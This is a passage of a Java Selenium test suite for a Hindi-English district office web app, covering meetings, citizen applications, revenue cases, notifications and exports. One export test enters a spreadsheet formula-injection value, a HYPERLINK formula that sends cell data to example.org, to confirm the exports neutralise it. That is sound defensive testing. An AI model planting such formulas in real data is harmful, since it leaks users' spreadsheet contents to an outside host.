        assertThat(m.find()).as(instruction).isTrue();
        String number = m.group(1);

        logIn(clerk, Deployments.DEMO_PASSWORD);
        open("file/view.xhtml?id=" + fileId);
        assertThat(wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("linked"))).getText()).contains(number);
        ((JavascriptExecutor) browser).executeScript("PrimeFaces.getWidgetById('move:action').selectValue('CLOSE');");
        settle();
        type("move:remark", "बटांकन पूर्ण");
        click("move:go");
        waitForText(adminText("Closed.", "बंद कर दी गई।"));
        // checked once closed: the open file's note editor and upload field have findings of their own, outside this scenario
        assertThat(browser.findElement(By.id("linked")).getText()).as("still open until reported").contains(number);
        screenshot("file-linked.png");
        assertNoViolations(axeScript(), "closed file page linked to an instruction");

        open("samiksha/mine.xhtml");
        waitForText(number);
        WebElement row = browser.findElements(By.cssSelector("[id='mine:parts_data'] tr")).stream()
                .filter(r -> r.getText().contains(number)).findFirst().orElseThrow();
        assertThat(row.findElement(By.tagName("textarea")).getAttribute("value")).as("the proposal, filled in")
                .contains("बंद", "closed");
        screenshot("mine-proposed.png");
        assertNoViolations(axeScript(), "my instructions with a proposed compliance");
        row.findElement(By.cssSelector("button[id$='comply']")).click();
        settle();
        wait.until(d -> d.findElements(By.cssSelector("[id='mine:parts_data'] tr")).stream()
                .anyMatch(r -> r.getText().contains(number) && r.getText().contains(adminText("Complied", "पालन हुआ"))
                        && r.findElements(By.tagName("textarea")).isEmpty()));
        // the live refresh the submission itself sets off leaves the confirmation in place
        Thread.sleep(1500);
        waitForText(adminText("Compliance report submitted.", "पालन प्रतिवेदन प्रस्तुत हुआ।"));
    }

    private static long idOf(String json) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\"id\":(\\d+)").matcher(json);
        assertThat(m.find()).as(json).isTrue();
        return Long.parseLong(m.group(1));
    }

    /**
     * The collector records this week's time-limit meeting with the revenue head attending, gives an
     * instruction from the meeting's page, sees it there (and on the console) with its state, and
     * downloads the minutes: a PDF titled with the meeting. The revenue head attaches a scan to the
     * compliance report, and the collector finds it on the meeting's page. The pages have no WCAG 2.1
     * AA violations.
     */
    @Test
    void collectorHoldsAMeetingGivesAnInstructionFromItAndDownloadsTheMinutes() throws Exception {
        String title = "साप्ताहिक समय-सीमा बैठक " + RUN;
        String instruction = "त्र्यंबकपुर तहसील के लंबित नामांतरण प्रकरण निराकृत करें " + RUN;
        logIn("collector", Deployments.DEMO_PASSWORD);
        clickAndLoad("m-meetings");
        String axe = axeScript();
        assertNoViolations(axe, "meetings");
        type("hold:title", title);
        browser.findElement(By.xpath("//fieldset//label[contains(., '(REV-HOD)')]")).click();
        type("hold:agenda", "लंबित नामांतरण प्रकरण");
        type("hold:en", "Mutation cases pending over a week were reviewed.");
        type("hold:hi", "एक सप्ताह से अधिक लंबित नामांतरण प्रकरणों की समीक्षा की गई।");
        clickAndLoad("hold:save");
        assertThat(browser.getCurrentUrl()).as("the meeting was recorded; the page says:%n%s", pageText()).contains("samiksha/meeting");
        assertThat(pageText()).contains(title, "REV-HOD", "एक सप्ताह से अधिक लंबित");

        type("issue:text", instruction);
        type("issue:pick_input", "REV-HOD");
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("li.ui-autocomplete-item"))).click();
        settle();
        click("issue:give");
        wait.until(d -> d.findElement(By.id("parts")).getText().contains(instruction));
        assertThat(browser.findElement(By.id("parts")).getText()).contains("REV-HOD", adminText("On time", "समय पर"));
        assertThat(browser.findElement(By.id("issue:text")).getAttribute("value")).as("the form is ready for the next one").isEmpty();
        assertNoViolations(axe, "meeting page");

        byte[] pdf = fetchInBrowser(browser.findElement(By.id("minutes-pdf")).getAttribute("href"));
        assertThat(new String(pdf, 0, 5, StandardCharsets.ISO_8859_1)).isEqualTo("%PDF-");
        assertThat(new com.lowagie.text.pdf.PdfReader(pdf).getInfo().get("Title")).isEqualTo(title);
        String meetingUrl = browser.getCurrentUrl();
        open("samiksha/console.xhtml");
        waitForText(instruction);
        assertThat(browser.findElements(By.id("issue:give"))).as("the console gives instructions with the same form").hasSize(1);

        // the revenue head attaches a scan to the compliance report; the meeting's page lists it for the collector
        Path scan = Files.createTempFile("order", ".pdf");
        Files.write(scan, MINIMAL_PDF.getBytes(StandardCharsets.US_ASCII));
        logOut();
        logIn("hod.revenue", Deployments.DEMO_PASSWORD);
        open("samiksha/mine.xhtml");
        browser.findElement(By.xpath("//select[@id='attach:part']/option[contains(., '" + RUN + "')]")).click();
        browser.findElement(By.id("attach:doc")).sendKeys(scan.toString());
        clickAndLoad("attach:add");
        waitForText(scan.getFileName().toString());
        assertNoViolations(axe, "my instructions");
        logOut();
        logIn("collector", Deployments.DEMO_PASSWORD);
        browser.get(meetingUrl);
        WebElement document = wait.until(d -> d.findElement(By.id("parts")).findElement(By.partialLinkText(scan.getFileName().toString())));
        assertThat(new String(fetchInBrowser(document.getAttribute("href")), 0, 5, StandardCharsets.ISO_8859_1)).isEqualTo("%PDF-");
        ((JavascriptExecutor) browser).executeScript("window.scrollTo(0, 0)");
        screenshot("meeting.png");
    }

    /** GETs a URL with the browser's session and returns the body (a failed request fails the test). */
    private byte[] fetchInBrowser(String url) {
        browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(30));
        String base64 = (String) ((JavascriptExecutor) browser).executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                        + "fetch(arguments[0]).then(r => r.ok ? r.blob() : Promise.reject(r.status))"
                        + ".then(b => { const f = new FileReader(); f.onload = () => done(f.result.split(',')[1]); f.readAsDataURL(b); })"
                        + ".catch(e => done('failed ' + e));", url);
        assertThat(base64).as("GET %s", url).doesNotStartWith("failed");
        return java.util.Base64.getDecoder().decode(base64);
    }

    /**
     * Notifications: the tehsildar has a page open; the collector gives an instruction to the
     * tehsildar's post over the API; the bell's count goes up without a reload, the notifications
     * page shows it in Hindi, opening it marks it read and leads to "my instructions". The
     * administrator's outbox page shows the SMTP settings in use and retries the failed mails.
     */
    @Test
    void anInstructionRingsTheAssigneesBellLiveAndReadsInHindi() throws Exception {
        logIn("tehsildar", Deployments.DEMO_PASSWORD);
        if (!"hi".equals(browser.findElement(By.tagName("html")).getAttribute("lang"))) {
            clickAndLoad("topbar:lang-hi");
        }
        open("desk/inbox.xhtml");
        awaitLive("notice");
        ((JavascriptExecutor) browser).executeScript("window.notReloaded = true;");
        int before = bellCount();

        String meeting = api("collector", "api/v1/meetings",
                "{\"date\": \"" + java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata")) + "\", \"type\": \"TIME_LIMIT\", \"title\": \"समय-सीमा बैठक " + RUN + "\"}");
        long meetingId = idOf(meeting);
        String text = "सीमांकन के लंबित प्रकरण निपटाएँ " + RUN;
        String instruction = api("collector", "api/v1/meetings/" + meetingId + "/instructions",
                "{\"text\": \"" + text + "\", \"assignees\": [\"REV-THL-TEH\"], \"workingDays\": 5, \"priority\": \"IMMEDIATE\"}");
        String number = instruction.replaceAll("(?s).*?\"number\":\"([^\"]+)\".*", "$1");
        assertThat(number).matches("SS/20\\d\\d/\\d{4}");

        wait.until(d -> bellCount() == before + 1);
        assertThat(((JavascriptExecutor) browser).executeScript("return window.notReloaded === true;"))
                .as("the count went up without reloading the page").isEqualTo(true);
        assertThat(browser.findElement(By.id("topbar:bell")).getAttribute("aria-label")).isEqualTo("सूचनाएँ: " + (before + 1) + " अपठित");
        wait.until(d -> d.findElement(By.id("bell-live")).getAttribute("textContent").equals("सूचनाएँ: " + (before + 1) + " अपठित"));
        screenshot("bell-live.png");

        clickAndLoad("topbar:bell");
        WebElement ours = notificationRow(number);
        assertThat(ours.getText()).contains("नया निर्देश " + number + " पद REV-THL-TEH को, समय-सीमा");
        assertThat(ours.getAttribute("class")).as("unread is shown bold").contains("unread");
        screenshot("notifications-hi.png");
        assertNoViolations(axeScript(), "notifications");

        clickAndLoad(ours.findElement(By.cssSelector("a")).getAttribute("id"));
        assertThat(browser.getCurrentUrl()).contains("samiksha/mine");
        waitForText(text);
        assertThat(bellCount()).as("opening it marked it read").isEqualTo(before);
        open("notice/list.xhtml");
        assertThat(notificationRow(number).getAttribute("class")).doesNotContain("unread");

        logOut();
        logIn("admin", Deployments.DEMO_PASSWORD);
        open("admin/outbox.xhtml");
        assertThat(browser.findElement(By.id("smtp-host")).getText()).isEqualTo("localhost");
        assertThat(pageText()).as("the port the failsafe set-up gives").contains("3025");
        screenshot("outbox.png");
        assertNoViolations(axeScript(), "mail outbox");
        click("outbox:retryAll");
        wait.until(d -> !d.findElement(By.id("page-messages")).getText().isBlank());
        assertThat(browser.findElement(By.id("page-messages")).getText())
                .contains(adminText("failed mails sent now.", "विफल मेल में से"));
    }

    /** The row of the notifications page that tells of instruction {@code number}. */
    private WebElement notificationRow(String number) {
        return wait.until(d -> d.findElements(By.cssSelector("[id='notices:list_data'] tr")).stream()
                .filter(r -> r.getText().contains(number)).findFirst().orElse(null));
    }

    /** The number on the bell (none shown: 0). */
    private int bellCount() {
        List<WebElement> count = browser.findElements(By.cssSelector("[id='topbar:bell'] .bell-count"));
        return count.isEmpty() ? 0 : Integer.parseInt(count.get(0).getText().strip());
    }

    // --- registers: jandarshan, revenue courts, pension cases (issue 5) ----------------------------

    /**
     * The jandarshan counter: a clerk registers a citizen's application with a scanned document and
     * the mobile in Devanagari digits, and downloads the bilingual slip; the same application again
     * minutes later is warned of and registered only when confirmed. A clerk of another department
     * finds it by its number but sees only its status, not the citizen's particulars nor the slip;
     * an unknown number is said so. The head of the department sees it in the department's list and
     * disposes of it with the reply given; the pension cases page passes axe too.
     */
    @Test
    void clerkRegistersAJandarshanApplicationWithADocumentAndDownloadsTheSlip() throws Exception {
        String subject = "खसरा 112/4 का नामांतरण लंबित " + RUN;
        Path scan = Files.createTempFile("khasra", ".pdf");
        Files.write(scan, MINIMAL_PDF.getBytes(StandardCharsets.US_ASCII));
        String axe = axeScript();

        logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
        open("jandarshan/register.xhtml");
        fillJandarshanApplication(subject);
        browser.findElement(By.id("jd:documents")).sendKeys(scan.toString());
        screenshot("jandarshan-register.png");
        assertNoViolations(axe, "jandarshan register");
        clickAndLoad("jd:save");
        assertThat(browser.getCurrentUrl()).as("registered; the page says:%n%s", pageText()).contains("jandarshan/application");
        String ack = browser.findElement(By.id("ackNumber")).getText().replaceAll(".*\\s", "");
        assertThat(ack).matches("JD/20\\d\\d/\\d{6}");
        assertThat(pageText()).as("the mobile typed in Devanagari digits is stored as ten digits")
                .contains(subject, "9826012345", scan.getFileName().toString());
        screenshot("jandarshan-registered.png");
        assertNoViolations(axe, "jandarshan application");
        String slipUrl = browser.findElement(By.id("slip")).getAttribute("href");
        java.net.http.HttpResponse<byte[]> slip = fetch(slipUrl);
        assertThat(slip.statusCode()).isEqualTo(200);
        assertThat(slip.headers().firstValue("Content-Type").orElse("")).startsWith("application/pdf");
        assertThat(new String(slip.body(), 0, 5, StandardCharsets.US_ASCII)).isEqualTo("%PDF-");
        Files.write(Path.of(System.getProperty("daftar.screenshots", "target/screenshots"), "jandarshan-slip.pdf"), slip.body());
        String documentUrl = browser.findElement(By.cssSelector("#documents a")).getAttribute("href");
        assertThat(fetch(documentUrl).body()).isEqualTo(MINIMAL_PDF.getBytes(StandardCharsets.US_ASCII));

        open("jandarshan/register.xhtml");
        fillJandarshanApplication(subject);
        clickAndLoad("jd:save");
        waitForText(ack);
        assertThat(browser.getCurrentUrl()).as("a probable duplicate is not registered unasked").contains("jandarshan/register");
        clickAndLoad("jd:anyway");
        assertThat(browser.getCurrentUrl()).contains("jandarshan/application");
        assertThat(browser.findElement(By.id("ackNumber")).getText()).doesNotContain(ack);
        logOut();

        logIn("clerk.pension", Deployments.DEMO_PASSWORD);
        open("jandarshan/application.xhtml");
        type("lookup:ack", ack.toLowerCase(java.util.Locale.ROOT).replace('/', '-'));
        clickAndLoad("lookup:find");
        waitForText(ack);
        assertThat(pageText()).as("another department sees the status, not the citizen").doesNotContain(subject, "9826012345");
        assertThat(browser.findElements(By.id("slip"))).isEmpty();
        assertThat(fetch(slipUrl).statusCode()).isEqualTo(403);
        assertThat(fetch(documentUrl).statusCode()).isEqualTo(403);
        type("lookup:ack", "JD/2026/999999");
        clickAndLoad("lookup:find");
        waitForText(adminText("There is no jandarshan application with the acknowledgement number JD/2026/999999.",
                "पावती क्रमांक JD/2026/999999 का कोई जनदर्शन आवेदन नहीं है।"));
        assertNoViolations(axe, "jandarshan status lookup");
        logOut();

        logIn("hod.revenue", Deployments.DEMO_PASSWORD);
        open("jandarshan/list.xhtml");
        waitForText(ack);
        screenshot("jandarshan-list.png");
        assertNoViolations(axe, "jandarshan list");
        open("jandarshan/application.xhtml?ack=" + ack.replace('/', '-'));
        type("dispose:reply", "नामांतरण आदेश पारित, प्रति आवेदक को दी गई");
        clickAndLoad("dispose:go");
        waitForText(adminText("Disposed of", "निराकृत"));
        assertThat(browser.findElements(By.id("dispose:go"))).as("disposed of once").isEmpty();
        open("cases/pension.xhtml");
        // Daftar opened the cases of the demo employees retiring within 90 days at start-up; a head of department sees them all
        assertThat(browser.findElement(By.id("list:cases_data")).getText()).contains(adminText("days left", "दिन शेष"));
        screenshot("pension-cases.png");
        assertNoViolations(axe, "pension cases");
        // the head of Revenue ticks a step of a Revenue employee's case, which is on their desk, but not of another department's
        int ticked = pensionRow(", REV)").findElements(By.cssSelector(".pi-check-square")).size();
        pensionRow(", REV)").findElement(By.cssSelector("a[id$=':tick']")).click();
        settle();
        assertThat(pensionRow(", REV)").findElements(By.cssSelector(".pi-check-square"))).hasSize(ticked + 1);
        int tickedElsewhere = pensionRow(", EDU)").findElements(By.cssSelector(".pi-check-square")).size();
        pensionRow(", EDU)").findElement(By.cssSelector("a[id$=':tick']")).click();
        settle();
        waitForText(adminText("Only the holder of the post", "इस पेंशन प्रकरण के चरण केवल पद"));
        assertThat(pensionRow(", EDU)").findElements(By.cssSelector(".pi-check-square"))).hasSize(tickedElsewhere);
    }

    private WebElement pensionRow(String text) {
        return browser.findElements(By.cssSelector("[id='list:cases_data'] > tr")).stream()
                .filter(row -> row.getText().contains(text)).findFirst()
                .orElseThrow(() -> new AssertionError("no pension case with \"" + text + "\" on the page:\n" + pageText()));
    }

    /**
     * The tehsildar's court: a mutation case filed three weeks ago is past its seven working days and
     * shows so in red and in words; the court records a hearing and disposes of the case with its
     * order. A clerk of another department is refused the case by its URL.
     */
    @Test
    void tehsildarFilesARevenueCaseRecordsAHearingAndDisposesOfIt() throws Exception {
        String applicant = "रामप्रसाद यादव " + RUN;
        String axe = axeScript();
        java.time.format.DateTimeFormatter ddMMyyyy = java.time.format.DateTimeFormatter.ofPattern("dd-MM-yyyy");
        java.time.LocalDate filed = java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata")).minusWeeks(3);

        logIn("tehsildar", Deployments.DEMO_PASSWORD);
        open("cases/revenue.xhtml");
        type("new:subject", "नामांतरण खसरा 45/2 ग्राम सेंदरी");
        type("new:applicant", applicant);
        type("new:respondent", "श्यामलाल यादव");
        assertNoViolations(axe, "revenue court register");
        typeDate("new:filedOn", filed.format(ddMMyyyy));
        clickAndLoad("new:file");
        assertThat(browser.getCurrentUrl()).as("filed; the page says:%n%s", pageText()).contains("cases/revenue-case");
        assertThat(browser.findElement(By.cssSelector("#state .standing-OVERDUE")).getText())
                .isEqualTo(adminText("Overdue", "समय-सीमा बाह्य"));
        String caseUrl = browser.getCurrentUrl();

        // the first working day after filing: the calendar refuses a holiday with a message, then try the next day
        for (java.time.LocalDate day = filed.plusDays(1); browser.findElements(By.cssSelector("[id='hearings_data'] td")).size() < 2;
             day = day.plusDays(1)) {
            assertThat(day).as("a working day within a week of filing").isBefore(filed.plusDays(8));
            type("hearing:note", "पक्षकार उपस्थित, पटवारी प्रतिवेदन प्रस्तुत");
            typeDate("hearing:date", day.format(ddMMyyyy));
            clickAndLoad("hearing:add");
        }
        assertThat(browser.findElement(By.id("hearings")).getText()).contains("पक्षकार उपस्थित, पटवारी प्रतिवेदन प्रस्तुत");
        screenshot("revenue-case.png");
        assertNoViolations(axe, "revenue case");

        type("dispose:order", "नामांतरण स्वीकृत, राजस्व अभिलेख में दर्ज करें");
        clickAndLoad("dispose:go");
        waitForText("नामांतरण स्वीकृत, राजस्व अभिलेख में दर्ज करें");
        assertThat(browser.findElement(By.cssSelector("#state .standing")).getText()).isEqualTo(adminText("Disposed", "निराकृत"));
        assertThat(browser.findElements(By.id("dispose:go"))).as("disposed of once").isEmpty();
        logOut();

        logIn("clerk.pension", Deployments.DEMO_PASSWORD);
        browser.get(caseUrl);
        waitForText(adminText("You are not allowed to do this.", "आपको यह कार्य करने की अनुमति नहीं है।"));
        assertThat(pageText()).doesNotContain(applicant);
    }

    private void fillJandarshanApplication(String subject) {
        type("jd:applicantName", "सावित्री देवी");
        type("jd:relativeName", "रामलाल साहू");
        type("jd:village", "ग्राम सेंदरी");
        type("jd:mobile", "९८२६० १२३४५");
        type("jd:subject", subject);
        ((JavascriptExecutor) browser).executeScript("PrimeFaces.getWidgetById('jd:department').selectValue('REV');"
                + "PrimeFaces.getWidgetById('jd:category').selectValue('LAND');");
    }

    /** Types a date into a PrimeFaces date picker and closes its calendar, which would cover the buttons and fail axe. */
    private void typeDate(String id, String ddMMyyyy) {
        type(id + "_input", ddMMyyyy);
        ((JavascriptExecutor) browser).executeScript("PrimeFaces.getWidgetById(arguments[0]).hide();", id);
        settle();
    }

    /** GETs an address with the browser's session, as a download would. */
    private java.net.http.HttpResponse<byte[]> fetch(String url) throws Exception {
        String cookies = browser.manage().getCookies().stream().map(c -> c.getName() + "=" + c.getValue())
                .collect(java.util.stream.Collectors.joining("; "));
        java.net.http.HttpRequest request = java.net.http.HttpRequest.newBuilder(java.net.URI.create(url))
                .header("Cookie", cookies).build();
        return Deployments.HTTP.send(request, java.net.http.HttpResponse.BodyHandlers.ofByteArray());
    }

    /**
     * Exports: the collector registers a jandarshan application whose subject a spreadsheet would
     * run as a formula, then downloads the register. The CSV and the Excel file carry the subject
     * as text (neutralised), the PDF opens and names the application; all rows, not only the page.
     */
    @Test
    void theJandarshanRegisterDownloadsAsCsvExcelAndPdfWithFormulasNeutralised() throws Exception {
        String subject = "=HYPERLINK(\"http://example.org/?\"&A1) नामांतरण " + RUN;
        logIn("collector", Deployments.DEMO_PASSWORD);
        open("jandarshan/register.xhtml");
        fillJandarshanApplication(subject);
        clickAndLoad("jd:save");
        String ack = browser.findElement(By.id("ackNumber")).getText().replaceAll(".*\\s", "");
        open("jandarshan/list.xhtml");
        waitForText(ack);

        String csv = new String(exportFromPage("list", "list:apps-csv"), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF").contains(ack).contains("'" + subject.replace("\"", "\"\""))
                .doesNotContain("\"" + subject.substring(0, 10));
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(exportFromPage("list", "list:apps-xlsx")))) {
            var cells = new java.util.ArrayList<String>();
            workbook.getSheetAt(0).forEach(row -> row.forEach(cell -> cells.add(cell.toString())));
            assertThat(cells).contains(ack, "'" + subject);
        }
        byte[] pdf = exportFromPage("list", "list:apps-pdf");
        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(document)).contains(ack);
            var page = document.getPage(0);
            boolean turned = page.getRotation() % 180 != 0;
            assertThat(turned ? page.getMediaBox().getHeight() : page.getMediaBox().getWidth()).as("landscape")
                    .isGreaterThan(turned ? page.getMediaBox().getWidth() : page.getMediaBox().getHeight());
        }
    }

    /** Submits a page's form as its non-AJAX download button would, with the browser's session. */
    private byte[] exportFromPage(String formId, String buttonId) {
        browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(60));
        String base64 = (String) ((JavascriptExecutor) browser).executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                        + "const form = document.getElementById(arguments[0]); const data = new FormData(form);"
                        + "data.append(arguments[1], arguments[1]);"
                        + "fetch(form.action, {method: 'POST', body: new URLSearchParams(data)})"
                        + ".then(r => r.ok ? r.blob() : Promise.reject(r.status))"
                        + ".then(b => { const f = new FileReader(); f.onload = () => done(f.result.split(',')[1]); f.readAsDataURL(b); })"
                        + ".catch(e => done('failed ' + e));", formId, buttonId);
        assertThat(base64).as("download %s", buttonId).doesNotStartWith("failed");
        return Base64.getDecoder().decode(base64);
    }

    // --- weekly time-limit review pack (issue 6, pack) ------------------------------------------

    /**
     * The collector opens the review pack from the MIS menu, builds it for today's meeting and
     * watches the progress bar fill; then downloads the PDF (landscape, in Hindi and English) and
     * the workbook (a sheet per part), and finds the pack in the archive. No WCAG 2.1 AA violations.
     */
    @Test
    void collectorBuildsTheReviewPackWithAProgressBarAndDownloadsIt() throws Exception {
        String meeting = java.time.format.DateTimeFormatter.ofPattern("dd-MM-yyyy")
                .format(java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata")));
        logIn("collector", Deployments.DEMO_PASSWORD);
        clickAndLoad("m-tl-pack");
        String axe = axeScript();
        assertNoViolations(axe, "review pack");
        assertThat(value("build:date_input")).as("today's meeting by default").isEqualTo(meeting);
        click("build:go");
        try {
            wait.until(ExpectedConditions.presenceOfElementLocated(By.id("build:bar")));
        } catch (org.openqa.selenium.TimeoutException e) {
            screenshot("tl-pack-no-bar.png");
            throw new AssertionError("no progress bar; the page says:\n" + pageText(), e);
        }
        WebElement bar = browser.findElement(By.id("build:bar"));
        assertThat(bar.getAttribute("role")).isEqualTo("progressbar");
        WebElement pdfLink = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("build:pdf")));
        settle();
        assertThat(browser.findElement(By.id("build:bar")).getAttribute("aria-valuenow")).isEqualTo("100");
        assertThat(pageText()).contains(adminText("The pack is built and archived.", "पत्रक तैयार होकर संग्रहीत हो गया।"));
        assertThat(browser.findElement(By.id("archive:packs")).getText()).contains(meeting, "collector");
        assertNoViolations(axe, "review pack built");
        screenshot("tl-pack.png");

        byte[] pdf = fetchInBrowser(pdfLink.getAttribute("href"));
        try (org.apache.pdfbox.pdmodel.PDDocument d = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            assertThat(d.getPage(0).getMediaBox().getWidth()).as("landscape").isGreaterThan(d.getPage(0).getMediaBox().getHeight());
            assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(d))
                    .contains("समय-सीमा समीक्षा पत्रक", "बैठक दिनांक / Meeting date: " + meeting, "राजस्व / Revenue");
        }
        byte[] xlsx = fetchInBrowser(browser.findElement(By.id("build:xlsx")).getAttribute("href"));
        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            assertThat(book.getNumberOfSheets()).as("a sheet per part, the daily discipline last").isEqualTo(8);
            assertThat(book.getSheetName(0)).isEqualTo("समय-सीमा पत्र");
        }
    }

    // --- MIS: the collector's pendency dashboard (issue 6, mis-pend) -------------------------------

    /**
     * "Who is delaying it" in two clicks: a most-immediate receipt lies ten days on the land-records
     * clerk's desk; the collector opens the dashboard from the home page, clicks the land-records
     * department's overdue receipts, finds the receipt with its holder in the list, and one more click
     * shows its track. Both pages have no WCAG 2.1 AA violations.
     */
    @Test
    void collectorClicksAnOverdueCountOnTheDashboardAndReachesTheItemsTrackInTwoClicks() throws Exception {
        String subject = "Pendency dashboard check " + RUN;
        String receipt = api("clerk.landrecords", "api/v1/receipts",
                "{\"subject\": \"" + subject + "\", \"sender\": \"Patwari Lingiyadih\", \"priority\": \"MOST_IMMEDIATE\"}");
        long id = idOf(receipt);
        java.util.regex.Matcher number = java.util.regex.Pattern.compile("\"number\":\"([^\"]+)\"").matcher(receipt);
        assertThat(number.find()).as(receipt).isTrue();
        String axe = axeScript();
        open("it/clock?offset=P10D");
        try {
            logIn("collector", Deployments.DEMO_PASSWORD);
            clickAndLoad("to-pendency");
            WebElement overdue = wait.until(d -> d.findElements(By.cssSelector(
                    "[id='pendency:table_data'] a[href*='department=LR&kind=RECEIPT'][href$='overdue=true']")).stream().findFirst().orElse(null));
            String count = overdue.getText();
            assertThat(Integer.parseInt(count)).isPositive();
            assertThat(pageText()).contains(adminText("Pending work in the district", "जिले में लंबित कार्य"));
            screenshot("mis-dashboard.png");
            ((JavascriptExecutor) browser).executeScript("document.getElementById('units-heading').scrollIntoView();");
            screenshot("mis-charts.png");
            assertNoViolations(axe, "pendency dashboard");

            clickAndLoad(overdue.getAttribute("id"));
            waitForText(number.group(1));
            assertThat(browser.findElement(By.id("list-heading")).getText()).endsWith(": " + count);
            WebElement row = browser.findElements(By.cssSelector("[id='pending:items_data'] tr")).stream()
                    .filter(r -> r.getText().contains(number.group(1))).findFirst().orElseThrow();
            assertThat(row.getText()).contains(subject).contains("LR-LR-AG2-1");
            screenshot("mis-pending.png");
            assertNoViolations(axe, "pending items");

            clickAndLoad(row.findElement(By.className("item-link")).getAttribute("id"));
            wait.until(ExpectedConditions.urlContains("desk/track.xhtml?id=" + id));
            assertThat(browser.getTitle()).contains(number.group(1));
        } finally {
            open("it/clock?offset=PT0S");
        }
    }

    // --- daily discipline (issue 6) ------------------------------------------------------------------

    /**
     * The collector opens the daily discipline of the last working day from the menu, sees the
     * district department by department and drills into Land Records' defaulters: as many as the
     * department's row says. One of them, marked on casual leave that day in the leave register, is
     * a defaulter no more and Land Records counts one fewer. Both pages pass axe.
     */
    @Test
    void collectorDrillsIntoADepartmentsDefaultersAndLeaveTakesOneOut() throws Exception {
        String day = lastWorkingDay();
        String axe = axeScript();
        logIn("collector", Deployments.DEMO_PASSWORD);
        clickAndLoad("m-discipline");
        showDiscipline(day);
        int defaulters = landRecordsDefaulters();
        assertThat(defaulters).as("nobody logs in on a past day in the test district: every employee missed it").isPositive();
        List<String> logins = drilledLogins();
        assertThat(logins).as("the drill lists the department's defaulters").hasSize(defaulters);
        screenshot("discipline-defaulters.png");
        assertNoViolations(axe, "daily discipline");

        String away = logins.get(0);
        clickAndLoad("m-leave");
        type("mark:person_input", away);
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("li.ui-autocomplete-item"))).click();
        type("mark:remark", "Casual leave " + RUN);
        fillDate("mark:from", day);
        fillDate("mark:to", day);
        click("mark:save");
        waitForText(adminText("Leave marked.", "अवकाश दर्ज हुआ।"));
        assertThat(browser.findElement(By.id("register:entries_data")).getText()).contains(away);
        screenshot("leave-register.png");
        assertNoViolations(axe, "leave register");

        clickAndLoad("m-discipline");
        showDiscipline(day);
        assertThat(landRecordsDefaulters()).isEqualTo(defaulters - 1);
        assertThat(drilledLogins()).doesNotContain(away).hasSize(defaulters - 1);
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("[id='people:only'] .ui-chkbox-box"))).click();
        settle();
        wait.until(d -> d.findElement(By.id("people:persons_data")).getText().contains(away));
        WebElement row = browser.findElements(By.cssSelector("[id='people:persons_data'] tr")).stream()
                .filter(r -> r.getText().contains("(" + away + ")")).findFirst().orElseThrow();
        assertThat(row.getText()).contains(adminText("Casual leave", "आकस्मिक अवकाश"));
    }

    /**
     * Types a date and closes the calendar that opened on focus; a calendar still sliding in when the
     * next field is typed can swallow the keys, so the value is checked and typed again if lost.
     */
    private void fillDate(String id, String ddMMyyyy) {
        for (int attempt = 0; attempt < 3 && !ddMMyyyy.equals(value(id + "_input")); attempt++) {
            typeDate(id, ddMMyyyy);
            wait.until(d -> {
                ((JavascriptExecutor) d).executeScript("PrimeFaces.getWidgetById(arguments[0]).hide();", id);
                return !d.findElement(By.id(id + "_panel")).isDisplayed();
            });
        }
        assertThat(value(id + "_input")).isEqualTo(ddMMyyyy);
    }

    /** The last working day before today, as the server's calendar has it (asked over the API). */
    private String lastWorkingDay() throws Exception {
        java.time.format.DateTimeFormatter dd = java.time.format.DateTimeFormatter.ofPattern("dd-MM-yyyy");
        java.time.LocalDate today = java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata"));
        for (java.time.LocalDate d = today.minusDays(1); d.isAfter(today.minusDays(15)); d = d.minusDays(1)) {
            HttpResponse<String> r = Deployments.HTTP.send(HttpRequest.newBuilder(URI.create("http://localhost:"
                            + base.getPort() + base.getPath() + "api/v1/reports/discipline?date=" + d.format(dd)))
                    .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                            ("collector:" + Deployments.DEMO_PASSWORD).getBytes(StandardCharsets.UTF_8))).build(),
                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
            if (r.body().contains("\"workingDay\":true")) {
                return d.format(dd);
            }
        }
        throw new AssertionError("no working day in the last two weeks");
    }

    /** Chooses the day over the one shown (select all, type), and waits for the district table of that day. */
    private void showDiscipline(String day) {
        WebElement input = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("day:date_input")));
        input.sendKeys(org.openqa.selenium.Keys.chord(org.openqa.selenium.Keys.CONTROL, "a"), day);
        ((JavascriptExecutor) browser).executeScript("PrimeFaces.getWidgetById('day:date').hide();");
        click("day:show");
        wait.until(d -> d.findElement(By.id("h-departments")).getText().contains(day));
    }

    /** Land Records' defaulters in the district table, read from the row the collector clicks. */
    private int landRecordsDefaulters() {
        WebElement row = wait.until(d -> d.findElements(By.cssSelector("[id='district:departments_data'] tr")).stream()
                .filter(r -> r.getText().startsWith("LR ")).findFirst().orElse(null));
        WebElement drill = row.findElement(By.cssSelector("a[id$=':drill']"));
        int count = Integer.parseInt(drill.getText().strip());
        drill.click();
        settle();
        return count;
    }

    /** The login IDs in the people table, "(login)" after each name. */
    private List<String> drilledLogins() {
        return browser.findElements(By.cssSelector("[id='people:persons_data'] tr:not(.ui-datatable-empty-message)")).stream()
